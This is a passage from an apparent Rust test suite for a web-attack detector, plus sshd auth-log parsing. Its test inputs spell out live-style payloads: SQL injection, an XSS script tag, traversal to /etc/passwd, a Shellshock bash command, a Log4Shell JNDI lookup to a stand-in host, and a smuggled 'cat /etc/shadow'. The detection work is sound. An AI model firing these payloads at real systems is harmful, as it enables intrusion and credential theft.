            ip_in(&format!("login failed from {host}.example.com")),
            None
        );
    }

    #[test]
    fn attack_sets_compile() {
        for set in [SQLI_RE, XSS_RE, TRAVERSAL_RE, CMDI_RE, &CMDI_RE[1..]] {
            RegexSet::new(set).expect("compiles");
        }
    }

    #[test]
    fn decoding() {
        assert_eq!(decode("/a%20b?x=%2527", false), "/a b?x='");
        assert_eq!(decode("q=UNION+SELECT", true), "q=union select");
        assert_eq!(decode("%u003cscript", false), "<script");
    }

    #[test]
    fn classifies() {
        let w = WebDetector::new();
        let k = |p: &str, q: Option<&str>, ua: Option<&str>| {
            w.classify(p, q, ua, None)
                .attacks
                .iter()
                .map(|i| ATTACK_KINDS[*i])
                .collect::<Vec<_>>()
        };
        assert_eq!(
            k("/item", Some("id=1%27%20OR%20%271%27=%271"), None),
            vec!["sql_injection"]
        );
        assert_eq!(
            k("/item", Some("id=1+UNION+ALL+SELECT+NULL,NULL--"), None),
            vec!["sql_injection"]
        );
        assert_eq!(
            k("/search", Some("q=%3Cscript%3Ealert(1)%3C/script%3E"), None),
            vec!["xss_attempt"]
        );
        assert_eq!(
            k("/static/../../../../etc/passwd", None, None),
            vec!["path_traversal"]
        );
        assert_eq!(
            k(
                "/cgi-bin/test.cgi",
                None,
                Some("() { :; }; /bin/bash -c 'cat /etc/passwd'")
            ),
            vec!["command_injection"]
        );
        assert_eq!(
            k("/", Some("x=${jndi:ldap://evil.example/a}"), None),
            vec!["command_injection"]
        );
        assert_eq!(
            k("/ping", Some("host=127.0.0.1;cat%20/etc/shadow"), None),
            vec!["path_traversal", "command_injection"]
        );
        assert!(k(
            "/products/shoes",
            Some("color=red&size=42&sort=price"),
            Some("Mozilla/5.0 (Windows NT 10.0; Win64; x64)")
        )
        .is_empty());
        assert!(k("/blog/how-to-select-a-union-rep", None, None).is_empty());
        assert!(k("/blog/using-union-select-in-postgres", None, None).is_empty());
        assert_eq!(
            k("/img/..%c0%af..%c0%afetc/passwd", None, None),
            vec!["path_traversal"]
        );
        assert!(k(
            "/reset.css",
            None,
            Some("Opera/9.80 (MTK; Opera Mini/2.1199/34.1244; U; id) Presto/2.8.119 Version/11.10")
        )
        .is_empty());
        assert!(k(
            "/projects/xdotool/+++Result:+chosen+nickname+%22awarovadoms%22;sent;",
            None,
            None
        )
        .is_empty());
        assert!(k("/misc/nmh//%22file://$file/%22", None, None).is_empty());
        assert_eq!(
            w.classify(
                "/",
                None,
                Some("sqlmap/1.7.2#stable (https://sqlmap.org)"),
                None
            )
            .tool,
            Some("sqlmap")
        );
        assert!(w.classify("/.git/config", None, None, None).probe.is_some());
    }

    #[test]
    fn auth_messages() {
        assert_eq!(
            auth_event("Failed password for invalid user admin from 203.0.113.9 port 52144 ssh2"),
            Some((true, "203.0.113.9", Some("admin")))
        );
        assert_eq!(
            auth_event("authentication failure; logname= uid=0 euid=0 tty=NODEVssh ruser= rhost=218.188.2.4 "),
            Some((true, "218.188.2.4", None))
        );
        assert_eq!(
            auth_event("Accepted password for root from 203.0.113.9 port 52200 ssh2"),
            Some((false, "203.0.113.9", Some("root")))
        );
        assert_eq!(auth_event("session opened for user root"), None);
    }
}
